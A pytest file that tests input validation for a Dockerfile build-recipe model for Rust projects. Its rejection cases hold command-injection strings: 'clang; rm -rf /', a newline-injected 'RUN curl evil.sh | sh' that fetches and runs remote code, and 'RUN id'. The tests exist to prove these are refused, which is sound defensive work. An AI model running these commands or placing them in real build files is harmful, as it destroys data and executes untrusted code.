import pytest
from pydantic import ValidationError
from s2i.MODELS.build_recipe import BuildRecipe, RecipeFile
from s2i.errors import RecipeError

def test_defaults_follow_the_name():
    recipe = BuildRecipe(name="transcript")
    assert recipe.base_image == "rust:1.72"
    assert recipe.working_directory == "/usr/src/transcript"
    assert recipe.install_command == ["cargo", "install", "--path", "."]
    assert recipe.binary == "transcript"
    assert recipe.default_command == ["transcript"]
    assert recipe.system_dependencies == []

def test_duplicate_packages_are_dropped_in_order():
    recipe = BuildRecipe(name="transcript", system_dependencies=["cmake", "clang", "cmake"])
    assert recipe.system_dependencies == ["cmake", "clang"]

@pytest.mark.parametrize("fields", [
    {"name": "Transcript"},
    {"name": "transcript", "base_image": "not a ref"},
    {"name": "transcript", "system_dependencies": ["clang; rm -rf /"]},
    {"name": "transcript", "working_directory": "relative/path"},
    {"name": "transcript", "install_command": []},
    {"name": "transcript", "binary": "bin/transcript"},
    {"name": "transcript", "binary": "trans\x00cript"},
])
def test_invalid_recipes_are_rejected(fields):
    with pytest.raises(ValidationError):
        BuildRecipe(**fields)

def test_with_dependencies_returns_a_validated_copy():
    recipe = BuildRecipe(name="transcript", system_dependencies=["clang", "cmake"])
    empty = recipe.with_dependencies([])
    assert empty.system_dependencies == []
    assert recipe.system_dependencies == ["clang", "cmake"]
    with pytest.raises(ValidationError):
        recipe.with_dependencies(["BAD NAME"])

def test_recipe_file_variants():
    recipe_file = RecipeFile(
        recipe=BuildRecipe(name="transcript", system_dependencies=["clang", "cmake"]),
        variants={"full": ["clang", "cmake"], "clang-only": ["clang"], "toolchain-only": []},
    )
    assert recipe_file.variant_names == ["full", "clang-only", "toolchain-only"]
    assert recipe_file.variant("clang-only").system_dependencies == ["clang"]
    assert recipe_file.variant("toolchain-only").system_dependencies == []
    assert recipe_file.variant(None) is recipe_file.recipe

def test_unknown_variant_raises():
    recipe_file = RecipeFile(recipe=BuildRecipe(name="transcript"), variants={"full": ["clang"]})
    with pytest.raises(RecipeError, match="Unknown variant"):
        recipe_file.variant("missing")

@pytest.mark.parametrize("fields", [
    {"working_directory": "/usr/src/transcript\nRUN curl evil.sh | sh"},
    {"working_directory": "/usr/src/trans\rcript"},
    {"install_command": ["cargo", "install", "--path", ".\nRUN id"]},
    {"install_command": ["cargo\x1b[2J", "install"]},
])
def test_control_characters_cannot_reach_the_dockerfile(fields):
    with pytest.raises(ValidationError, match="control character"):
        BuildRecipe(name="transcript", **fields)
